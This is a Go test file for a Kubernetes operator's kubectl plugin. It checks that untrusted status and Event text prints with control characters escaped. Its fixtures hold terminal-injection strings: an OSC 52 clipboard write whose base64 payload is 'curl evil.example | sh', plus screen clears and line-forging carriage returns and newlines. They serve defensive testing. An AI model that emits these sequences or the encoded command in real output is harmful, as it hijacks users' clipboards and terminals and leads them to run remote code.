// Copyright The caliban-operator Authors.
// SPDX-License-Identifier: Apache-2.0

package commands

import (
	"bytes"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	calibanv1alpha1 "github.com/caliban-ai/caliban-operator/pkg/apis/caliban/v1alpha1"
	"github.com/caliban-ai/caliban-operator/pkg/builders"
)

// Hostile text as anyone who may write a status, an Event or a
// Workspace can leave it: an OSC 52 sequence that writes the reader's
// clipboard, a screen clear, the same as a C1 CSI, a carriage return that
// overwrites the line, a newline that forges one, DEL and a bell.
const (
	osc52   = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
	clear2J = "\x1b[2J\x1b[H"
	c1CSI   = "\u009b2J"
	forged  = "ok\rPhase:       Running\nEndpoint: evil"
	rubbish = "\x7f\x00\x08"
)

// hostile is every kind of it in one string.
func hostile(prefix string) string { return prefix + osc52 + clear2J + c1CSI + forged + rubbish }

// rawControl is the first control character in out that kubectl caliban
// did not write itself (the line ends), or -1: C0 but the newline, DEL,
// and C1, as the runes of out.
func rawControl(out string) rune {
	for _, r := range out {
		switch {
		case r == '\n':
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f:
			return r
		}
	}
	return -1
}

// kubectl caliban prints what the cluster says, and the cluster holds
// what anyone with write access to a status, an Event or a Workspace
// wrote: no control character of it reaches the terminal as such, each is
// shown escaped, and nothing of it forges a line.
func TestDescribeAndGetPrintUntrustedTextEscaped(t *testing.T) {
	task := fxTask("stuck", "team-a", blockedOnWorkspace, func(t *calibanv1alpha1.CalibanTask) {
		t.Status.Conditions[0].Message = hostile("condition: ")
		t.Status.Conditions[0].Reason = "Reason" + clear2J
		t.Status.RequestedBy = "alice" + osc52
		t.Status.CalibandEndpoint = "host" + c1CSI + ":8443"
		t.Status.ResolvedWorkspace = &calibanv1alpha1.ResolvedWorkspace{
			Provider: calibanv1alpha1.Provider{Name: "p" + clear2J, Kind: "anthropic", Model: "model" + osc52},
		}
		t.Status.Launch = &calibanv1alpha1.Launch{Type: calibanv1alpha1.LaunchCold, Reason: "Cold", Message: hostile("launch: ")}
	})
	snapshot := &Snapshot{
		Task:      task,
		Workspace: fxWorkspace("wsb", calibanv1alpha1.WorkspaceFailed, hostile("workspace: ")),
		Sandbox:   fxSandbox("stuck", metav1.ConditionFalse, "Not"+clear2J, hostile("sandbox: ")),
		Pod: fxPod("stuck", func(p *corev1.Pod) {
			p.Status.ContainerStatuses[0].State = corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{
				Reason: "CrashLoopBackOff" + clear2J, Message: hostile("container: ")}}
		}),
		TaskEvents: []eventsv1.Event{
			fxEvent("uid-stuck", "Warning"+clear2J, "Reason"+osc52, hostile("note: "), time.Minute),
		},
		PodEvents: []eventsv1.Event{
			fxEvent(fxPodUID, "Normal", "Pulled", hostile("pod note: "), time.Minute),
		},
		Problems: []string{hostile("a read refused: ")},
	}

	var describe bytes.Buffer
	if err := Describe(&describe, snapshot, fxNow); err != nil {
		t.Fatal(err)
	}
	var table bytes.Buffer
	if err := PrintTable(&table, []calibanv1alpha1.CalibanTask{*task}, fxNow, true); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]string{"describe": describe.String(), "get": table.String()} {
		t.Run(name, func(t *testing.T) {
			if !utf8.ValidString(out) {
				t.Errorf("the output is not valid UTF-8:\n%q", out)
			}
			if r := rawControl(out); r >= 0 {
				t.Errorf("the output holds the control character %U as it is:\n%q", r, out)
			}
			phases := 0
			for _, l := range strings.Split(out, "\n") {
				if strings.HasPrefix(l, "Phase:") {
					phases++
				}
				if strings.HasPrefix(l, "Endpoint: evil") {
					t.Errorf("a newline in a message forged the line %q", l)
				}
			}
			if name == "describe" && phases != 1 {
				t.Errorf("%d lines start with Phase:, want describe's own:\n%s", phases, out)
			}
		})
	}
	// Escaped, not dropped: the reader sees that something was there.
	for _, want := range []string{`\x1b]52;c;`, `\x07`, `\x1b[2J`, `\u009b2J`, `ok\rPhase:`, `\nEndpoint: evil`, `\x7f\x00\x08`} {
		if !strings.Contains(describe.String(), want) {
			t.Errorf("describe does not show %s:\n%s", want, describe.String())
		}
	}
	if want := `model\x1b]52;`; !strings.Contains(table.String(), want) {
		t.Errorf("get does not show %s:\n%s", want, table.String())
	}
}

// The one line of why (and describe's last) quotes a status message: it
// is escaped like the rest.
func TestTheDiagnosisLineIsPrintedEscaped(t *testing.T) {
	task := fxTask("stuck", "team-a", blockedOnWorkspace, func(t *calibanv1alpha1.CalibanTask) {
		t.Status.Conditions[0] = metav1.Condition{Type: builders.ConditionReady, Status: metav1.ConditionFalse,
			Reason: builders.ReasonWorkspaceUnresolved, Message: hostile("workspace: "), LastTransitionTime: fxStarted}
	})
	s := &Snapshot{Task: task, Workspace: fxWorkspace("wsb", calibanv1alpha1.WorkspaceFailed, hostile("ws: "))}
	var out bytes.Buffer
	if err := Describe(&out, s, fxNow); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
	last := lines[len(lines)-1]
	if !strings.HasPrefix(last, "waiting for: ") {
		t.Fatalf("last line %q, want the diagnosis", last)
	}
	if r := rawControl(last); r >= 0 {
		t.Errorf("the diagnosis line holds %U as it is: %q", r, last)
	}
}
